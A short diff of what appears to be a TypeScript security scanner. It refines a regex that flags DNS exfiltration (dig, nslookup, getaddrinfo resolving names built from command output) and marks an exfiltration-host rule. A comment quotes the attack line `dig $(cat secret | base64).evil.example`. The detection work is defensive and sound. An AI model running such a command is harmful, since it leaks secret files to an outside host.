@@ -148,7 +148,7 @@ const callsHome: Rule = {
 
 /** Resolves names that carry data: `dig $(cat secret | base64).evil.example`. */
 const NAME_LOOKUP =
-  /\b(?:dig|nslookup|host|ping|resolvectl query|gethostbyname\(|getaddrinfo\(|dns\.resolve\w*\()[^\n]{0,80}?(?:\$\([^\n]{1,160}?\)|`[^`\n]{1,160}`|\$\{?\w+\}?)\.[a-z0-9-]{1,63}\.[a-z]{2,}/gi
+  /(?<![\w.-])(?:(?:dig|nslookup|host|ping|resolvectl query)\s|(?:\w+\.)?(?:gethostbyname\(|getaddrinfo\(|dns\.resolve\w*\())[^\n]{0,80}?(?:\$\([^\n]{1,160}?\)|`[^`\n]{1,160}`|\$\{?\w+\}?)\.[a-z0-9-]{1,63}\.[a-z]{2,}/gi
 const NAMED =
   /\$\((?:hostname|uname)[^|)]*\)\.(?:local|internal|lan|svc)|\$\{?(?:HOST|DOMAIN|SERVICE|NAME|i|host|domain|svc|name|server|region|sub|subdomain|h|d|node)\}?\./
 
@@ -171,6 +171,7 @@ const hosts: Rule = {
   code: 'exfiltration_host',
   severity: 'critical',
   says: 'sends to a host that collects whatever it is sent',
+  isOfPrograms: true,
   *find(reading: Reading): Iterable<Match> {
     for (const found of reading.text.matchAll(COLLECTOR)) {
       const span = rangeOf(found)
